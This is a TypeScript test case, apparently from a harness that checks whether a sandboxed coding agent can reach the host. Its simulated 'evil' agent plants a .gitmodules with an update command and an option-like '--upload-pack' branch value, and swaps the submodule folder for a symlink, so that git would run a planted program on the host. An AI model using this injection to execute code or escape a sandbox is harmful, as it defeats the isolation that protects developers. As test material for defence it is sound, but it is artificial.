import { existsSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import type { Attack } from '../frame/attack.ts'
import { need } from '../frame/attack.ts'
import { live, plant } from './_work.ts'

const attack: Attack = {
  tries: 'uses the submodule that the project has: a repository of its own in its folder, update commands and option-like addresses in .gitmodules, its folder replaced by a link',
  success: 'a program runs on the host, or the submodule\'s folder on the host holds what the agent put there',
  run: async (t) => {
    const evil = await t.agent()
    const program = await plant(t, evil)
    const tried = await evil.try(`git init -q vendored; mkdir -p vendored/.git/hooks; echo x >vendored/x; mv vendored away; rm -rf vendored; rmdir vendored; ln -sfn /tmp vendored; umount vendored; ls -d vendored`)
    need(/vendored/.test(tried.out), `the submodule's folder is not there: ${tried.out}${tried.err}`)
    await evil.sh(`printf '[submodule "vendored"]\\n\\tpath = vendored\\n\\turl = %s/.git/lib\\n\\tupdate = !${program}\\n\\tignore = none\\n\\tbranch = --upload-pack=${program}\\n' '${t.project}' >.gitmodules; git config submodule.vendored.update '!${program}'; git config submodule.recurse true`)
    const folder = join(evil.worktree, 'vendored')
    const left = existsSync(folder) ? readdirSync(folder) : []
    if (left.length > 0) return { through: `${folder} on the host holds ${left.join(', ')}` }
    await evil.try('git rm -q --cached evil.sh; true')
    const outcome = live(t, evil, 'submodules')
    const done = await outcome.catch(async (e: unknown) => {
      // A .gitmodules that looks like an option is refused by git itself, which is as good.
      if (!/gitmodules/i.test(String(e))) throw e
      await t.person.everyday(evil.worktree, evil.branch)
      return { held: `git refused the .gitmodules: ${String(e).slice(0, 160)}` }
    })
    for (const args of [['submodule', 'status'], ['submodule', 'init'], ['submodule', 'foreach', 'true'], ['diff', '--submodule=log'], ['status', '--ignore-submodules=none'], ['submodule', 'summary']]) await t.person.git(evil.worktree, ...args)
    await evil.clean()
    return done
  },
}
export default attack
